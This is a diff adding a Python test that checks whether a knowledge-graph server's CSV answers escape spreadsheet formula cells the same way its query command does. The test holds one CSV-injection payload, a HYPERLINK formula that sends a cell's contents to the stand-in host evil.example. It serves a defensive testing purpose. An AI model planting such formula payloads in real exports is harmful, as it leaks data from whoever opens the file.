@@ -172,3 +172,19 @@ def test_kg_serve_refuses_hostile_queries_and_keeps_answering(listener):
         proc.terminate()
         proc.wait(timeout=30)
     assert "Traceback" not in proc.stderr.read()
+
+
+def test_kg_serve_csv_answers_neutralise_formula_cells_as_kg_query_does():
+    """The endpoint's ``text/csv`` answer has the same cells as ``kg query --format csv`` prints."""
+    from graph.serve.answer import load_store, query_work
+
+    q = 'SELECT ?text ?n WHERE { BIND("=HYPERLINK(\\"http://evil.example/?leak=\\"&A1)" AS ?text) BIND(-2 AS ?n) }'
+    r = run_kg("query", q, "-f", "csv", "--seeds", MINI, timeout=60)
+    assert r.returncode == 0, r.stderr
+    status, *body = query_work(load_store([]), {"query": [q]}, "text/csv")()
+    import csv
+    import io
+
+    served = list(csv.reader(io.StringIO(b"".join(body).decode(), newline="")))
+    assert status.startswith(b"200 text/csv") and served == list(csv.reader(io.StringIO(r.stdout)))
+    assert served[1][0].startswith("'=HYPERLINK") and served[1][1] == "-2"
